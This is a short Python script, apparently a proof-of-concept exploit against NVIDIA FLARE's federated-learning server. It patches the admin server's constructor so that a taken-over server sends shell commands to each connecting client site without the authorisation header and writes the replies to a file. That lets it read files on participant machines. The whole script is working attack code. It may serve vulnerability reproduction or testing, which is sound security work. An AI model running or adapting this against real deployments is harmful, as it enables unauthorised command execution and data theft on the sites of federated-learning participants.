"""The engine's server, taken over: asks every site that connects for its files.

``python rogue_server.py FILE …``, then the arguments of the engine's own server. The first word is
JSON: ``site``, the commands to send, and the file that gets the replies.
"""

import json
import sys
import threading
import time
from pathlib import Path

from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
from nvflare.private.fed.app.server import server_train
from nvflare.private.fed.server.admin import FedAdminServer

asked = json.loads(sys.argv.pop(1)) if __name__ == "__main__" else {}
original = FedAdminServer.__init__


def attack(server: FedAdminServer) -> None:
    """Send the commands without the header that asks for authorisation; write what came back."""
    replies: dict[str, str] = {}
    while len(replies) < len(asked["commands"]):
        for command in asked["commands"]:
            reply = server.cell.send_request(
                channel=CellChannel.CLIENT_MAIN, topic=SysCommandTopic.SHELL,
                target=asked["site"], timeout=5.0,
                request=new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=command)),
            )  # fmt: skip
            if isinstance(reply.payload, Message):
                replies[command] = str(reply.payload.body)
        time.sleep(0.2)  # until the site has connected
    draft = Path(asked["replies"] + ".new")
    draft.write_text(json.dumps(replies))
    draft.rename(asked["replies"])


def taken_over(self: FedAdminServer, *arguments: object, **options: object) -> None:
    original(self, *arguments, **options)
    threading.Thread(target=attack, args=(self,), daemon=True).start()


if __name__ == "__main__":
    FedAdminServer.__init__ = taken_over
    args = server_train.parse_arguments()
    sys.exit(server_train.mpm.run(server_train.main, run_dir=args.workspace, args=args))
